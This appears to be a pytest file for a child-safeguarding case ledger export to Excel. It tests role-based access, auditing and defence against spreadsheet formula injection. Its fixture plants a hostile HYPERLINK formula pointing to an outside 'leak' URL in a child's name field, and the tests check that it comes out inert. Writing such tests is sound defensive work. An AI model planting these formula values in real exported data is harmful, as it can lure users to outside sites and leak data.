"""The provincial ledger export: key/high open cases in scope, one row per child, inert text."""
from datetime import date, datetime
from io import BytesIO

import pytest
from openpyxl import load_workbook

from webapp.clock import today, utcnow
from webapp.db import db
from webapp.models import AuditEvent, Case, Institution, Referral
from webapp.safeguarding.cases import CaseAlreadyOpen, add_note, close_case, open_case
from webapp.xlsx import safe_cell

HEADERS = [
    "学校", "班级", "姓名", "性别", "出生日期", "风险等级",
    "问题类别", "责任人", "建档日期", "最近跟进", "转介状态",
]
EVIL = '=HYPERLINK("//x.cn/?leak","点击")'  # fits Child.name (40)


def _open(county, child, level, uuid, responsible=None, categories=("mental_health",)):
    case, _ = open_case(child, county.users.counselor1, today(), level, list(categories), "", "",
                        responsible or county.users.counselor1, [], uuid)
    return case


@pytest.fixture
def cases(app, county):
    """School 1: 张三 high (note, pending referral), 李四 key (formula name), 王五 关注, 赵六 closed.
    School 2: 周八 high. School 3 (zone 1): 吴九 key with a finished referral."""
    kids, users = county.kids, county.users
    with app.app_context():
        kids.li_si.name = EVIL
        kids.li_si.save()
        users.head2.display_name = "-王老师"
        users.head2.save()
        zhang = _open(county, kids.zhang_san, "high", "c-zhang", users.head1,
                      ("mental_health", "left_behind"))
        for day, uuid in ((date(2026, 11, 15), "n-1"), (date(2026, 11, 17), "n-2")):
            add_note(zhang, users.head1, "家访", False, False, day, utcnow(), uuid, today())
        hospital = Institution.create(name="县人民医院")
        Referral.create(case=zhang, institution=hospital, referred_on=date(2026, 11, 16), client_uuid="r-1")
        _open(county, kids.li_si, "key", "c-li", users.head2, ("family", "other"))
        _open(county, kids.wang_wu, "attention", "c-wang")
        close_case(_open(county, kids.zhao_liu, "key", "c-zhao"), utcnow(), "好转")
        _open(county, kids.zhou_ba, "high", "c-zhou", users.counselor2)
        wu = _open(county, kids.wu_jiu, "key", "c-wu", users.zone1)
        Referral.create(case=wu, institution=hospital, referred_on=date(2026, 11, 1), client_uuid="r-2",
                        outcome="门诊随访", outcome_on=date(2026, 11, 10))
    return county


def _sheet(response):
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    rows = list(load_workbook(BytesIO(response.data)).active.iter_rows(values_only=True))
    assert list(rows[0]) == HEADERS
    return rows[1:]


def test_a_counsellor_exports_her_schools_key_and_high_cases(cases, login_as):
    response = login_as("counselor1").get("/exports/ledger.xlsx")
    disposition = response.headers["Content-Disposition"]
    assert "ledger-2026-11-18.xlsx" in disposition and "渠县" not in disposition
    assert response.headers["Cache-Control"] == "no-store"
    rows = _sheet(response)
    assert [row[2] for row in rows] == ["'" + EVIL, "张三"]  # sorted by class: 4-1, pinyin
    zhang = rows[1]
    assert zhang == (
        "渠县第一小学", "4年级1班", "张三", "男", datetime(2016, 5, 1), "高危", "心理健康问题、留守", "head1",
        datetime(2026, 11, 18), datetime(2026, 11, 17), "转介中",
    )
    li = rows[0]
    assert li[5:] == ("重点", "问题家庭、其他", "'-王老师", datetime(2026, 11, 18), None, "无")


def test_formula_text_comes_out_inert(cases, login_as):
    rows = _sheet(login_as("counselor1").get("/exports/ledger.xlsx"))
    for row in rows:
        for value in row:
            assert not (isinstance(value, str) and value[:1] in "=+-@")
    assert [safe_cell(v) for v in ("=1+1", "+1", "-1", "@x", "\tx", "\rx", "ok", 3, None)] == [
        "'=1+1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "ok", 3, None,
    ]
    assert safe_cell("a\x00b\x1f") == "ab"  # characters XLSX cannot hold are dropped, not fatal


def test_the_export_is_audited_with_its_row_count(cases, app, login_as):
    login_as("counselor1").get("/exports/ledger.xlsx")
    with app.app_context():
        event = AuditEvent.get(AuditEvent.action == "export_ledger")
        assert event.username == "counselor1" and event.detail == '{"rows": 2}' and event.child_id is None


def test_a_zone_teacher_sees_her_zones_schools(cases, login_as):
    rows = _sheet(login_as("zone1").get("/exports/ledger.xlsx"))
    assert [(row[0], row[2], row[10]) for row in rows] == [
        ("渠县第一小学", "'" + EVIL, "无"),
        ("渠县第一小学", "张三", "转介中"),
        ("渠县第三小学", "吴九", "已有结果"),
    ]


def test_the_county_sees_every_school(cases, login_as):
    rows = _sheet(login_as("county").get("/exports/ledger.xlsx"))
    assert sorted(row[2] for row in rows) == sorted(["'" + EVIL, "张三", "吴九", "周八"])


def test_one_row_per_child_at_her_highest_level(cases, app, login_as):
    # A second open case is refused now (one open case per child, migration 0019), so she keeps one row.
    with app.app_context(), pytest.raises(CaseAlreadyOpen):
        _open(cases, cases.kids.zhang_san, "key", "c-zhang-2")
    rows = _sheet(login_as("counselor1").get("/exports/ledger.xlsx"))
    assert [row[5] for row in rows if row[2] == "张三"] == ["高危"]


@pytest.mark.parametrize("username", ["head1", "principal1", "committee1", "worker1"])
def test_other_roles_get_404(cases, login_as, username):
    assert login_as(username).get("/exports/ledger.xlsx").status_code == 404


def test_the_number_of_queries_does_not_grow_with_the_cases(cases, app, login_as, monkeypatch):
    browser = login_as("county")

    def count_queries():
        counter = []
        real = db.obj.execute_sql
        monkeypatch.setattr(db.obj, "execute_sql", lambda *a, **k: counter.append(1) or real(*a, **k))
        browser.get("/exports/ledger.xlsx")
        monkeypatch.setattr(db.obj, "execute_sql", real)
        return len(counter)

    before = count_queries()
    with app.app_context():
        for kid, uuid in ((cases.kids.sun_qi, "c-sun"), (cases.kids.zheng_shi, "c-zheng")):
            case = _open(cases, kid, "high", uuid)
            add_note(case, cases.users.counselor1, "谈话", False, False, today(), utcnow(), uuid + "-n",
                     today())
        assert Case.select().where(Case.level.in_(("key", "high")) & (Case.status == "open")).count() == 6
    assert count_queries() == before
    assert len(_sheet(browser.get("/exports/ledger.xlsx"))) == 6
